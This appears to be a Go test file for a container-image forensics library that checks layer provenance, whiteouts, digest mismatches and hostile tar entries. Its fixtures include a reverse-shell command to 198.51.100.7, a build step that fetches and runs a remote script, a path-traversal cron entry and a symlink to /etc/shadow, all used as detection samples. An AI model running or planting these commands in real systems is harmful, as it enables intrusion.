package forensics_test

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/strata-forensics/strata/forensics"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

var t0 = time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)

// write builds img and saves it in the given format, returning the reference to open.
func write(t *testing.T, format string, imgs ...imagebuild.Image) string {
	t.Helper()
	var built []*imagebuild.Built
	for _, img := range imgs {
		b, err := imagebuild.Build(img)
		if err != nil {
			t.Fatal(err)
		}
		built = append(built, b)
	}
	return writeBuilt(t, format, built...)
}

func writeBuilt(t *testing.T, format string, built ...*imagebuild.Built) string {
	t.Helper()
	dir := t.TempDir()
	p := filepath.Join(dir, "image.tar")
	var buf bytes.Buffer
	var err error
	switch format {
	case "docker-classic":
		err = imagebuild.WriteDockerArchive(&buf, imagebuild.Classic, built...)
	case "docker-25":
		err = imagebuild.WriteDockerArchive(&buf, imagebuild.OCI25, built...)
	case "oci-archive":
		err = imagebuild.WriteOCIArchive(&buf, built...)
	case "oci-layout":
		p = filepath.Join(dir, "layout")
		return p + errString(imagebuild.WriteOCILayout(p, built...), t)
	default:
		t.Fatalf("unknown format %s", format)
	}
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, buf.Bytes(), 0o444); err != nil {
		t.Fatal(err)
	}
	return p
}

func errString(err error, t *testing.T) string {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
	return ""
}

func open(t *testing.T, ref string) *forensics.Image {
	t.Helper()
	img, err := forensics.Open(context.Background(), ref, forensics.OpenOptions{TempDir: t.TempDir()})
	if err != nil {
		t.Fatalf("Open(%s): %v", ref, err)
	}
	t.Cleanup(func() { img.Close() })
	return img
}

func readAll(t *testing.T, img *forensics.Image) ([]*forensics.LayerTree, *forensics.Tree) {
	t.Helper()
	trees, err := img.ReadLayers(context.Background(), forensics.ReadOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return trees, forensics.Stack(trees)
}

func anomalies(img *forensics.Image, trees []*forensics.LayerTree) []forensics.Anomaly {
	out := append([]forensics.Anomaly(nil), img.Anomalies...)
	for _, lt := range trees {
		out = append(out, lt.Anomalies...)
	}
	return out
}

func hasAnomaly(as []forensics.Anomaly, kind, substr string) bool {
	for _, a := range as {
		if a.Kind == kind && strings.Contains(a.Detail+" "+a.Path, substr) {
			return true
		}
	}
	return false
}

// provenanceImage exercises whiteouts, opaque dirs, re-creation and modification.
func provenanceImage(c imagebuild.Compression) imagebuild.Image {
	return imagebuild.Image{
		Tags:    []string{"example.test/prov:1"},
		Created: t0,
		Layers: []imagebuild.Layer{
			{Compression: c, CreatedBy: "/bin/sh -c #(nop) ADD file:abc in / ", Files: []imagebuild.File{
				imagebuild.Dir("etc"), imagebuild.Reg("etc/passwd", "root:x:0:0::/root:/bin/sh\n"),
				imagebuild.Dir("usr/bin"), imagebuild.Reg("usr/bin/ps", "ELF-ps").WithMode(0o755),
				imagebuild.Reg("usr/bin/su", "ELF-su").WithMode(0o4755),
				imagebuild.Dir("app"), imagebuild.Reg("app/old.py", "print(1)\n"),
			}},
			{Compression: c, CreatedBy: "RUN /bin/sh -c curl -o /tmp/x.sh http://x && sh /tmp/x.sh # buildkit", Files: []imagebuild.File{
				imagebuild.Dir("tmp"), imagebuild.Reg("tmp/x.sh", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n").WithMode(0o755),
				imagebuild.Reg("usr/bin/ps", "ELF-ps-trojan").WithMode(0o755),
				imagebuild.Hardlink("usr/bin/ps2", "usr/bin/ps"),
			}},
			{Compression: c, CreatedBy: "RUN /bin/sh -c rm /tmp/x.sh # buildkit", Files: []imagebuild.File{
				imagebuild.Whiteout("tmp/x.sh"),
				imagebuild.Opaque("app"), imagebuild.Reg("app/new.py", "print(2)\n"),
			}},
		},
	}
}

func TestOpenEveryFormat(t *testing.T) {
	for _, format := range []string{"docker-classic", "docker-25", "oci-archive", "oci-layout"} {
		for _, c := range []imagebuild.Compression{imagebuild.None, imagebuild.Gzip, imagebuild.Zstd} {
			t.Run(format+"/"+c.String(), func(t *testing.T) {
				img := open(t, write(t, format, provenanceImage(c)))
				trees, tree := readAll(t, img)
				if as := anomalies(img, trees); len(as) != 0 {
					t.Errorf("unexpected anomalies: %+v", as)
				}
				if len(img.Layers) != 3 || len(img.History) != 3 {
					t.Fatalf("layers %d history %d", len(img.Layers), len(img.History))
				}
				for i, l := range img.Layers {
					if l.History != i || img.History[i].Layer != i {
						t.Errorf("layer %d aligned to history %d", i, l.History)
					}
					if l.UncompressedSize == 0 || l.Files == 0 {
						t.Errorf("layer %d: size %d files %d", i, l.UncompressedSize, l.Files)
					}
				}
				if got := img.Tags; len(got) != 1 || !strings.Contains(got[0], "prov:1") {
					t.Errorf("tags: %v", got)
				}
				checkProvenance(t, tree)
				sum, size, err := img.InputHash(context.Background())
				if err != nil || len(sum) != 64 || size == 0 {
					t.Errorf("input hash: %q %d %v", sum, size, err)
				}
			})
		}
	}
}

func checkProvenance(t *testing.T, tree *forensics.Tree) {
	t.Helper()
	x := tree.Node("/tmp/x.sh")
	if x == nil || !x.Hidden || x.Created() != 1 || x.Removed() != 2 {
		t.Fatalf("/tmp/x.sh should be hidden: created in 1, removed by 2: %+v", x)
	}
	if x.Entry.SHA256() == "" || x.Entry.Mode != 0o755 {
		t.Errorf("hidden entry keeps its last state: %+v", x.Entry)
	}
	ps := tree.Node("/usr/bin/ps")
	if ps.Created() != 0 || len(ps.Modified()) != 1 || ps.Modified()[0] != 1 || ps.Layer() != 1 {
		t.Errorf("/usr/bin/ps provenance: created %d modified %v layer %d", ps.Created(), ps.Modified(), ps.Layer())
	}
	ps2 := tree.Node("/usr/bin/ps2")
	if ps2.Entry.Type != forensics.TypeHardlink || ps2.Entry.SHA256() != ps.Entry.SHA256() {
		t.Errorf("hardlink should carry its target's hash: %+v vs %s", ps2.Entry, ps.Entry.SHA256())
	}
	if su := tree.Node("/usr/bin/su"); su.Entry.ModeString() != "04755" || !su.Entry.Setuid() {
		t.Errorf("setuid mode: %s", su.Entry.ModeString())
	}
	if old := tree.Node("/app/old.py"); old == nil || !old.Hidden || old.Removed() != 2 {
		t.Errorf("opaque /app hides old.py: %+v", old)
	}
	if n := tree.Node("/app/new.py"); n == nil || n.Hidden {
		t.Errorf("new.py stays: %+v", n)
	}
}

func TestFormatsAgree(t *testing.T) {
	// The same image saved in every format must give the same files and hashes.
	var want map[string]string
	for _, format := range []string{"docker-classic", "docker-25", "oci-archive", "oci-layout"} {
		img := open(t, write(t, format, provenanceImage(imagebuild.Gzip)))
		_, tree := readAll(t, img)
		got := map[string]string{}
		tree.Walk("/", func(n *forensics.Node) bool {
			got[n.Path()] = n.Entry.SHA256() + n.Entry.ModeString()
			return true
		})
		if want == nil {
			want = got
			continue
		}
		if len(got) != len(want) {
			t.Errorf("%s: %d paths, want %d", format, len(got), len(want))
		}
		for p, v := range want {
			if got[p] != v {
				t.Errorf("%s: %s = %q, want %q", format, p, got[p], v)
			}
		}
	}
}

func TestOpenRootFSDir(t *testing.T) {
	root := t.TempDir()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.MkdirAll(filepath.Join(root, "etc/cron.d"), 0o755))
	must(os.WriteFile(filepath.Join(root, "etc/cron.d/job"), []byte("* * * * * root id\n"), 0o644))
	must(os.WriteFile(filepath.Join(root, "suid"), []byte("x"), 0o755))
	must(os.Chmod(filepath.Join(root, "suid"), os.ModeSetuid|0o755))
	must(os.Symlink("../../../etc/shadow", filepath.Join(root, "etc/escape")))
	img := open(t, "dir:"+root)
	trees, tree := readAll(t, img)
	if len(img.Layers) != 1 {
		t.Fatalf("a rootfs is one layer, got %d", len(img.Layers))
	}
	if n := tree.Node("/etc/cron.d/job"); n == nil || n.Entry.SHA256() == "" {
		t.Fatalf("cron job missing or unhashed: %+v", n)
	}
	if n := tree.Node("/suid"); n == nil || !n.Entry.Setuid() {
		t.Errorf("setuid lost: %+v", n)
	}
	if !hasAnomaly(anomalies(img, trees), forensics.AnomalyEscapingLink, "/etc/escape") {
		t.Errorf("escaping symlink not reported: %+v", anomalies(img, trees))
	}
	// Bare directory paths are sniffed as root filesystems too.
	if img := open(t, root); img.Input.Format != "dir" {
		t.Errorf("bare dir sniffed as %s", img.Input.Format)
	}
}

func TestHistoryAlignmentAnomalies(t *testing.T) {
	img := provenanceImage(imagebuild.Gzip)
	// A history that claims four layer-making steps for three layers, and hides an empty step.
	img.History = []imagebuild.Step{
		{CreatedBy: "/bin/sh -c #(nop) ADD file:abc in / "},
		{CreatedBy: "/bin/sh -c #(nop)  ENV A=b", EmptyLayer: true},
		{CreatedBy: "RUN /bin/sh -c make # buildkit"},
		{CreatedBy: "RUN /bin/sh -c rm /tmp/x.sh # buildkit"},
		{CreatedBy: "COPY extra /extra # buildkit"},
	}
	o := open(t, write(t, "docker-classic", img))
	if !hasAnomaly(o.Anomalies, forensics.AnomalyHistoryMismatch, "4 steps") {
		t.Fatalf("history mismatch not reported: %+v", o.Anomalies)
	}
	if o.History[4].Layer != -1 || o.History[2].Layer != 1 || o.Layers[2].History != 3 {
		t.Errorf("alignment: %+v / %+v", o.History, o.Layers)
	}
}

func TestDigestMismatchIsAnAnomaly(t *testing.T) {
	b, err := imagebuild.Build(provenanceImage(imagebuild.Gzip))
	if err != nil {
		t.Fatal(err)
	}
	// Swap layer 1 for other content but keep the config: the trojanizer's move. The manifest
	// is re-rendered (blob digest right), so only the diff_id betrays it.
	l := provenanceImage(imagebuild.Gzip).Layers[1]
	l.Files = append(l.Files, imagebuild.Reg("usr/share/lib/reverse_shell.so", "ELF"))
	if err := b.ReplaceLayer(1, l); err != nil {
		t.Fatal(err)
	}
	img := open(t, writeBuilt(t, "oci-archive", b))
	trees, tree := readAll(t, img)
	if !hasAnomaly(anomalies(img, trees), forensics.AnomalyDiffIDMismatch, "layer 1") {
		t.Fatalf("diff_id mismatch not reported: %+v", anomalies(img, trees))
	}
	if tree.Node("/usr/share/lib/reverse_shell.so") == nil {
		t.Error("the replaced layer's files must still be read")
	}
}

func TestHostileLayers(t *testing.T) {
	var raw bytes.Buffer
	tw := tar.NewWriter(&raw)
	add := func(h *tar.Header, body string) {
		h.Size = int64(len(body))
		if h.Typeflag == 0 {
			h.Typeflag = tar.TypeReg
		}
		if h.Mode == 0 {
			h.Mode = 0o644
		}
		h.ModTime = t0
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		io.WriteString(tw, body)
	}
	add(&tar.Header{Name: "../../etc/cron.d/evil"}, "* * * * * root sh\n")
	add(&tar.Header{Name: "/abs/file"}, "ok")
	add(&tar.Header{Name: "link", Typeflag: tar.TypeSymlink, Linkname: "../../../../host/etc/shadow"}, "")
	add(&tar.Header{Name: "dup"}, "first")
	add(&tar.Header{Name: "dup"}, "second")
	deep := strings.Repeat("d/", 300) + "f"
	add(&tar.Header{Name: deep}, "deep")
	tw.Close()

	img := open(t, write(t, "oci-archive", imagebuild.Image{Created: t0, Layers: []imagebuild.Layer{
		{Raw: raw.Bytes(), Compression: imagebuild.Gzip, CreatedBy: "hostile"},
	}}))
	trees, tree := readAll(t, img)
	as := anomalies(img, trees)
	for _, want := range []struct{ kind, substr string }{
		{forensics.AnomalyUnsafePath, "../../etc/cron.d/evil"},
		{forensics.AnomalyEscapingLink, "/link"},
		{forensics.AnomalyDuplicateEntry, "/dup"},
	} {
		if !hasAnomaly(as, want.kind, want.substr) {
			t.Errorf("missing %s anomaly for %s in %+v", want.kind, want.substr, as)
		}
	}
	if n := tree.Node("/etc/cron.d/evil"); n == nil || n.Entry.TarName() != "../../etc/cron.d/evil" {
		t.Errorf("escaping name read inside the root and kept: %+v", n)
	}
	if n := tree.Node("/abs/file"); n == nil {
		t.Error("absolute names are read relative to the root")
	}
	if n := tree.Node("/dup"); n == nil || n.Entry.Size != int64(len("second")) {
		t.Errorf("the last duplicate wins: %+v", n)
	}
	if n := tree.Node("/" + deep); n == nil {
		t.Error("deep path missing")
	}
}

func TestTruncatedLayerIsAnAnomaly(t *testing.T) {
	var raw bytes.Buffer
	tw := tar.NewWriter(&raw)
	tw.WriteHeader(&tar.Header{Name: "big", Mode: 0o644, Size: 1 << 20, ModTime: t0})
	tw.Write(make([]byte, 1000)) // far short of the declared size
	img := open(t, write(t, "oci-layout", imagebuild.Image{Created: t0, Layers: []imagebuild.Layer{{Raw: raw.Bytes()}}}))
	trees, err := img.ReadLayers(context.Background(), forensics.ReadOptions{})
	if err != nil {
		t.Fatalf("a truncated layer is an anomaly, not an error: %v", err)
	}
	if !hasAnomaly(anomalies(img, trees), forensics.AnomalyTruncated, "/big") {
		t.Errorf("truncation not reported: %+v", anomalies(img, trees))
	}
}

// ustarBlock renders one raw ustar header; archive/tar's writer will not emit GNU sparse records.
func ustarBlock(name string, typeflag byte, size int64) []byte {
	b := make([]byte, 512)
	copy(b[0:], name)
	copy(b[100:], "0000644\x00")
	copy(b[108:], "0000000\x00")
	copy(b[116:], "0000000\x00")
	copy(b[124:], fmt.Sprintf("%011o\x00", size))
	copy(b[136:], fmt.Sprintf("%011o\x00", t0.Unix()))
	b[156] = typeflag
	copy(b[257:], "ustar\x0000")
	copy(b[148:], "        ")
	sum := 0
	for _, c := range b {
		sum += int(c)
	}
	copy(b[148:], fmt.Sprintf("%06o\x00 ", sum))
	return b
}

func pad(b []byte) []byte { return append(b, make([]byte, (512-len(b)%512)%512)...) }

func paxRecord(k, v string) string {
	rec := " " + k + "=" + v + "\n"
	n := len(rec)
	for {
		s := fmt.Sprintf("%d%s", n, rec)
		if len(s) == n {
			return s
		}
		n = len(s)
	}
}

func TestHugeSparseFile(t *testing.T) {
	// A PAX GNU sparse 1.0 file declaring 64 GiB with one 4-byte data block.
	pax := paxRecord("GNU.sparse.major", "1") + paxRecord("GNU.sparse.minor", "0") +
		paxRecord("GNU.sparse.name", "sparse") + paxRecord("GNU.sparse.realsize", "68719476736")
	data := pad([]byte("1\n0\n4\n"))
	data = append(data, "data"...)
	var raw bytes.Buffer
	raw.Write(ustarBlock("PaxHeaders/sparse", 'x', int64(len(pax))))
	raw.Write(pad([]byte(pax)))
	raw.Write(ustarBlock("GNUSparseFile.0/sparse", '0', int64(len(data))))
	raw.Write(pad(data))
	raw.Write(make([]byte, 1024))
	img := open(t, write(t, "oci-archive", imagebuild.Image{Created: t0, Layers: []imagebuild.Layer{{Raw: raw.Bytes()}}}))
	done := make(chan struct{})
	var trees []*forensics.LayerTree
	go func() {
		defer close(done)
		trees, _ = img.ReadLayers(context.Background(), forensics.ReadOptions{})
	}()
	select {
	case <-done:
	case <-time.After(60 * time.Second):
		t.Fatal("reading a sparse file must not expand its holes")
	}
	if !hasAnomaly(anomalies(img, trees), forensics.AnomalyBadEntry, "sparse") {
		t.Errorf("sparse file not reported: %+v", anomalies(img, trees))
	}
}

func TestOpenFile(t *testing.T) {
	ref := write(t, "docker-classic", provenanceImage(imagebuild.Gzip))
	img := open(t, ref)
	read := func(layer int, p string) (string, error) {
		f, err := img.OpenFile(context.Background(), layer, p)
		if err != nil {
			return "", err
		}
		defer f.Close()
		b, err := io.ReadAll(f)
		return string(b), err
	}
	tests := []struct {
		layer   int
		path    string
		want    string
		wantErr bool
	}{
		{-1, "/usr/bin/ps", "ELF-ps-trojan", false},
		{0, "/usr/bin/ps", "ELF-ps", false},
		{-1, "usr/bin/ps2", "ELF-ps-trojan", false},                             // hardlink followed
		{1, "/tmp/x.sh", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", false}, // hidden, read from its layer
		{-1, "/tmp/x.sh", "", true},                                             // removed in the final fs
		{-1, "/app/old.py", "", true},                                           // hidden by an opaque dir
		{-1, "/nope", "", true},
	}
	for _, tc := range tests {
		got, err := read(tc.layer, tc.path)
		if (err != nil) != tc.wantErr || got != tc.want {
			t.Errorf("OpenFile(%d, %s) = %q, %v; want %q (error %v)", tc.layer, tc.path, got, err, tc.want, tc.wantErr)
		}
		if err != nil && !errors.Is(err, forensics.ErrNotFound) {
			t.Errorf("OpenFile(%d, %s): error %v should wrap ErrNotFound", tc.layer, tc.path, err)
		}
	}
}

func TestBadInputs(t *testing.T) {
	dir := t.TempDir()
	notTar := filepath.Join(dir, "notes.txt")
	os.WriteFile(notTar, []byte("just some text, not an image\n"), 0o644)
	empty := filepath.Join(dir, "empty.tar")
	os.WriteFile(empty, nil, 0o644)
	good := write(t, "docker-classic", provenanceImage(imagebuild.Gzip))
	data, _ := os.ReadFile(good)
	truncated := filepath.Join(dir, "truncated.tar")
	os.WriteFile(truncated, data[:len(data)/3], 0o644)

	for _, ref := range []string{filepath.Join(dir, "missing.tar"), notTar, empty, truncated, "oci:" + dir} {
		img, err := forensics.Open(context.Background(), ref, forensics.OpenOptions{TempDir: t.TempDir()})
		if err == nil {
			// A truncated archive may still open when its index survived; reading must then fail or report.
			trees, rerr := img.ReadLayers(context.Background(), forensics.ReadOptions{})
			if rerr == nil && len(anomalies(img, trees)) == 0 {
				t.Errorf("%s: opened and read without complaint", ref)
			}
			img.Close()
			continue
		}
		var ie *forensics.InputError
		if !errors.As(err, &ie) {
			t.Errorf("%s: error is not an InputError: %v", ref, err)
		}
		base := filepath.Base(strings.TrimPrefix(ref, "oci:"))
		if !strings.Contains(err.Error(), base) {
			t.Errorf("%s: error does not name the input: %v", ref, err)
		}
	}
}

func TestEvidenceUntouched(t *testing.T) {
	ref := write(t, "oci-archive", provenanceImage(imagebuild.Zstd))
	before, _ := os.ReadFile(ref)
	st, _ := os.Stat(ref)
	tmp := t.TempDir()
	img, err := forensics.Open(context.Background(), ref, forensics.OpenOptions{TempDir: tmp})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := img.ReadLayers(context.Background(), forensics.ReadOptions{}); err != nil {
		t.Fatal(err)
	}
	img.Close()
	after, _ := os.ReadFile(ref)
	st2, _ := os.Stat(ref)
	if !bytes.Equal(before, after) || !st.ModTime().Equal(st2.ModTime()) {
		t.Error("the evidence changed")
	}
	left, _ := os.ReadDir(tmp)
	if len(left) != 0 {
		t.Errorf("temporary files left behind: %v", left)
	}
}

// Files over the content cap go to Stream whole, in the same pass, and are then visited
// without their bytes; smaller files are not streamed.
func TestStreamSeesBigFiles(t *testing.T) {
	img := open(t, write(t, "oci-layout", provenanceImage(imagebuild.Gzip)))
	const limit = 8
	var mu sync.Mutex
	streamed := map[string]*streamedFile{}
	visited := 0
	_, err := img.ReadLayers(context.Background(), forensics.ReadOptions{ContentCap: limit,
		Stream: func(layer int, e *forensics.Entry) io.WriteCloser {
			if e.Size <= limit {
				t.Errorf("%s (%d bytes) streamed", e.Path, e.Size)
			}
			f := &streamedFile{}
			mu.Lock()
			streamed[fmt.Sprint(layer, e.Path)] = f
			mu.Unlock()
			return f
		},
		Visit: func(layer int, e *forensics.Entry, data []byte) {
			mu.Lock()
			defer mu.Unlock()
			f := streamed[fmt.Sprint(layer, e.Path)]
			if data != nil {
				return
			}
			visited++
			if f == nil || f.closed != 1 {
				t.Errorf("%s: streamed %v", e.Path, f)
				return
			}
			if sum := sha256.Sum256(f.b.Bytes()); hex.EncodeToString(sum[:]) != e.SHA256() || int64(f.b.Len()) != e.Size {
				t.Errorf("%s: streamed %d bytes that do not hash to its sha256", e.Path, f.b.Len())
			}
		}})
	if err != nil {
		t.Fatal(err)
	}
	if visited == 0 || visited != len(streamed) {
		t.Errorf("%d big files visited, %d streamed", visited, len(streamed))
	}
}

type streamedFile struct {
	b      bytes.Buffer
	closed int
}

func (f *streamedFile) Write(p []byte) (int, error) { return f.b.Write(p) }
func (f *streamedFile) Close() error                { f.closed++; return nil }

func TestVisitSeesEveryRegularFile(t *testing.T) {
	img := open(t, write(t, "oci-layout", provenanceImage(imagebuild.Gzip)))
	var mu = make(chan struct{}, 1)
	seen := map[string]string{}
	_, err := img.ReadLayers(context.Background(), forensics.ReadOptions{ContentCap: 1 << 20,
		Visit: func(layer int, e *forensics.Entry, data []byte) {
			mu <- struct{}{}
			seen[e.Path] = string(data)
			<-mu
		}})
	if err != nil {
		t.Fatal(err)
	}
	// The whited-out script is still handed to content analyzers.
	if got := seen["/tmp/x.sh"]; !strings.Contains(got, "/dev/tcp/") {
		t.Errorf("hidden file content not visited: %q", got)
	}
	if _, ok := seen["/usr/bin/ps"]; !ok {
		t.Error("ps not visited")
	}
}

// Every file's sha256 is the sha256 of its bytes, whatever the format and compression, whether
// the file is handed whole to Visit, streamed past the content cap or not looked at, and
// whatever its size against SHA-256's 64-byte blocks and tar's 512-byte records. (File digests
// share the work of the layer stream's digest; this checks the two never get mixed up.)
func TestEntryDigestsAreTheFilesOwn(t *testing.T) {
	r := rand.New(rand.NewPCG(7, 8))
	var files []imagebuild.File
	want := map[string]string{}
	for i, n := range []int{0, 1, 55, 56, 63, 64, 65, 119, 120, 511, 512, 513, 1000, 4096, 70000, 300000} {
		b := make([]byte, n)
		for j := range b {
			b[j] = byte(r.Uint32())
		}
		p := fmt.Sprintf("data/f%02d-%d", i, n)
		files = append(files, imagebuild.RegBytes(p, b))
		sum := sha256.Sum256(b)
		want["/"+p] = hex.EncodeToString(sum[:])
	}
	// One core reads the only layer on one goroutine; two read it as a pipeline.
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(0))
	for _, procs := range []int{1, 2} {
		runtime.GOMAXPROCS(procs)
		checkEntryDigests(t, files, want)
	}
}

func checkEntryDigests(t *testing.T, files []imagebuild.File, want map[string]string) {
	for _, format := range []string{"docker-classic", "oci-archive", "oci-layout"} {
		for _, c := range []imagebuild.Compression{imagebuild.None, imagebuild.Gzip, imagebuild.Zstd} {
			recipe := imagebuild.Image{Tags: []string{"digests:1"}, Layers: []imagebuild.Layer{
				{Compression: c, CreatedBy: "COPY data /data", Files: append([]imagebuild.File{imagebuild.Dir("data")}, files...)},
			}}
			img := open(t, write(t, format, recipe))
			for _, opts := range []forensics.ReadOptions{
				{},
				{ContentCap: 600, Visit: func(int, *forensics.Entry, []byte) {}},
				{ContentCap: 600, Visit: func(int, *forensics.Entry, []byte) {},
					Stream: func(int, *forensics.Entry) io.WriteCloser { return &streamedFile{} }},
			} {
				trees, err := img.ReadLayers(context.Background(), opts)
				if err != nil {
					t.Fatal(err)
				}
				if as := anomalies(img, trees); len(as) != 0 {
					t.Errorf("%s/%s: anomalies %+v", format, c, as)
				}
				seen := 0
				for _, e := range trees[0].Entries {
					if w, ok := want[e.Path]; ok {
						seen++
						if e.SHA256() != w {
							t.Errorf("%s/%s visit=%v stream=%v: %s has sha256 %s, want %s", format, c, opts.Visit != nil, opts.Stream != nil, e.Path, e.SHA256(), w)
						}
					}
				}
				if seen != len(want) {
					t.Errorf("%s/%s: %d of %d files read", format, c, seen, len(want))
				}
			}
		}
	}
}
